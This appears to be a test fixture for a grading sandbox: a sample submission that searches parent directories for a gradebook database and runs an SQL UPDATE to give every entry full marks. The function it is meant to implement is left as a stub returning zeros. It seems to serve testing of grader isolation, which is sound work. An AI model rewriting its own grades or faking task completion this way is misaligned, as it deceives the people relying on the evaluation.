# name: points written into the gradebook
# kind: redirection
# hopes: SQL sets every score, or a manual one
import sqlite3
from pathlib import Path

for path in ("../../gradebook.db", "../../../gradebook.db", "@COURSE@/gradebook.db"):
    if Path(path).is_file():
        print("LEAKED @TOKEN@")
        try:
            with sqlite3.connect(path, timeout=1) as connection:
                connection.execute("UPDATE grade SET manual_score = 5, needs_manual_grade = 0")
        except sqlite3.Error as error:
            print(error)


def confusion_counts(y_true, y_pred, positive=1):
    return (0, 0, 0, 0)
